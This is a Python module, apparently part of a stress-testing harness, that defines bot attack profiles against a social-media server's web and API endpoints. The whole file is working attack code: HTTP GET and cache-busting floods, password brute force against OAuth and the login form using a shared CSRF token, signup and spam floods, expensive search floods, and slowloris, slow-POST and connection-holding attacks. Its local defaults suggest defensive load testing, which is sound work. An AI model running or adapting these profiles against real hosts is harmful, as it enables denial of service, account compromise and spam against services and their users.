"""Attack profiles: what each kind of bot sends. Mix them by listing several in a phase.

A *request* profile builds complete HTTP requests that the flood sends over keep-alive
connections as fast as its schedule allows. A *hold* profile (slowloris, slow POST, connection
flood) is about occupying connections, not about requests: it opens connections and keeps them
busy for as long as the server lets it.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import ClassVar
from urllib.parse import quote, urlencode

from roost.siege.wire import BROWSER_AGENTS, request_bytes

# Common words, so that searches match many posts and cannot be answered from an index alone.
_WORDS = "the a of love rain coffee dog cat music election news storm tweet follow sleep code cloud"
SEARCH_WORDS = (*_WORDS.split(), "monday", "pizza", "weather", "night", "star", "moon", "river")


@dataclass(frozen=True)
class AttackContext:
    """What setup learned before the run: credentials bots may abuse, names they may target."""

    host: str
    client_id: str = ""
    client_secret: str = ""
    app_token: str = ""
    bot_tokens: tuple[str, ...] = ()
    victims: tuple[str, ...] = ("admin@localhost",)  # logins that brute force aims at
    # A web session cookie and its CSRF token, fetched once from GET /login and then shared by
    # every bot, as a scripted attacker would: the form's check is per session, not per IP.
    login_cookie: str = ""
    login_csrf: str = ""


@dataclass
class Profile:
    """Base: one attack technique; ``kind`` says which driver runs it."""

    name: ClassVar[str] = ""
    kind: ClassVar[str] = "request"
    needs_bot_accounts: ClassVar[bool] = False
    default_paths: ClassVar[tuple[str, ...]] = ()
    context: AttackContext
    rng: random.Random
    paths: tuple[str, ...] = ()
    counter: int = field(default=0)

    def __post_init__(self) -> None:
        self.paths = tuple(self.paths) or self.default_paths

    def request(self) -> bytes:
        """The next request a bot sends."""
        raise NotImplementedError

    def _agent(self) -> str:
        return BROWSER_AGENTS[self.counter % len(BROWSER_AGENTS)]

    def _get(self, path: str, headers: tuple[tuple[str, str], ...] = ()) -> bytes:
        return request_bytes("GET", path, self.context.host, headers, agent=self._agent())

    def _post_form(
        self, path: str, form: dict[str, str], token: str = "", cookie: str = ""
    ) -> bytes:
        headers = [("Content-Type", "application/x-www-form-urlencoded")]
        if token:
            headers.append(("Authorization", f"Bearer {token}"))
        if cookie:
            headers.append(("Cookie", cookie))
        body = urlencode(form).encode()
        return request_bytes("POST", path, self.context.host, headers, body, agent=self._agent())


class GetFlood(Profile):
    """Plain GETs of public pages and the public timeline API: cheap to send, cacheable."""

    name = "get_flood"
    default_paths = ("/", "/public", "/api/v1/timelines/public")

    def __post_init__(self) -> None:
        super().__post_init__()
        self._ready = [self._get(path) for path in self.paths]

    def request(self) -> bytes:
        self.counter += 1
        return self._ready[self.counter % len(self._ready)]


class CacheBust(Profile):
    """GETs with random query strings, so no cache can answer twice."""

    name = "cache_bust"
    default_paths = ("/", "/public", "/api/v1/timelines/public")

    def request(self) -> bytes:
        self.counter += 1
        path = self.paths[self.counter % len(self.paths)]
        sep = "&" if "?" in path else "?"
        return self._get(f"{path}{sep}{self.rng.getrandbits(48):x}={self.counter}")


class LoginBruteForce(Profile):
    """Wrong passwords against the OAuth password grant and the web login form."""

    name = "login_brute_force"
    default_paths = ("/oauth/token", "/login")

    def request(self) -> bytes:
        self.counter += 1
        victim = self.context.victims[self.counter % len(self.context.victims)]
        password = f"guess{self.rng.getrandbits(40):x}"
        path = self.paths[self.counter % len(self.paths)]
        if path.startswith("/oauth"):
            form = {"grant_type": "password", "username": victim, "password": password}
            form.update(client_id=self.context.client_id, client_secret=self.context.client_secret)
            form["scope"] = "read write"
            return self._post_form(path, form)
        form = {"username": victim, "password": password}
        if self.context.login_csrf:
            form["csrf"] = self.context.login_csrf
        return self._post_form(path, form, cookie=self.context.login_cookie)


class SignupFlood(Profile):
    """Account creation through the API, with an app token when setup could get one."""

    name = "signup_flood"
    default_paths = ("/api/v1/accounts",)

    def request(self) -> bytes:
        self.counter += 1
        user = f"bot{self.rng.getrandbits(40):x}"
        form = {"username": user, "email": f"{user}@bots.invalid", "password": f"pw-{user}-x9"}
        form.update(agreement="true", locale="en")
        return self._post_form(self.paths[0], form, self.context.app_token)


class PostSpam(Profile):
    """Statuses from registered bot accounts, each with a link, as spammers post."""

    name = "post_spam"
    needs_bot_accounts = True
    default_paths = ("/api/v1/statuses",)

    def request(self) -> bytes:
        self.counter += 1
        tokens = self.context.bot_tokens
        token = tokens[self.counter % len(tokens)] if tokens else ""
        text = (
            f"Cheap followers!!! http://spam.invalid/{self.rng.getrandbits(32):x} #{self.counter}"
        )
        return self._post_form(self.paths[0], {"status": text}, token)


class ExpensiveSearch(Profile):
    """Full-text searches with random words: no cache helps, the database does the work."""

    name = "search"
    default_paths = ("/api/v2/search",)

    def request(self) -> bytes:
        self.counter += 1
        words = " ".join(self.rng.sample(SEARCH_WORDS, 3))
        path = f"{self.paths[0]}?q={quote(words)}&resolve=false&limit=40"
        tokens = self.context.bot_tokens
        if not tokens:
            return self._get(path)
        token = tokens[self.counter % len(tokens)]
        return self._get(path, (("Authorization", f"Bearer {token}"),))


class Slowloris(Profile):
    """Headers dribbled one byte at a time, never finished, to pin a server's connections."""

    name = "slowloris"
    kind = "hold"
    default_paths = ("/",)

    def opening(self) -> bytes:
        """What is dribbled first; then ``trickle`` forever."""
        head = f"GET {self.paths[0]} HTTP/1.1\r\nHost: {self.context.host}\r\n"
        return (head + f"User-Agent: {self._agent()}\r\n").encode()

    def trickle(self) -> bytes:
        self.counter += 1
        return f"X-{self.counter:x}: {self.rng.getrandbits(16):x}\r\n".encode()


class SlowPost(Slowloris):
    """Complete headers announcing a large body, then the body a byte at a time."""

    name = "slow_post"
    default_paths = ("/login",)

    def opening(self) -> bytes:
        head = request_bytes(
            "POST",
            self.paths[0],
            self.context.host,
            [("Content-Type", "application/x-www-form-urlencoded")],
            agent=self._agent(),
        )
        return head.replace(b"Content-Length: 0", b"Content-Length: 1000000")

    def trickle(self) -> bytes:
        return b"a"


class ConnectionFlood(Slowloris):
    """Open connections and hold them without sending a byte."""

    name = "connection_flood"

    def opening(self) -> bytes:
        return b""

    def trickle(self) -> bytes:
        return b""


PROFILES: dict[str, type[Profile]] = {
    cls.name: cls
    for cls in (
        GetFlood,
        CacheBust,
        LoginBruteForce,
        SignupFlood,
        PostSpam,
        ExpensiveSearch,
        Slowloris,
        SlowPost,
        ConnectionFlood,
    )
}
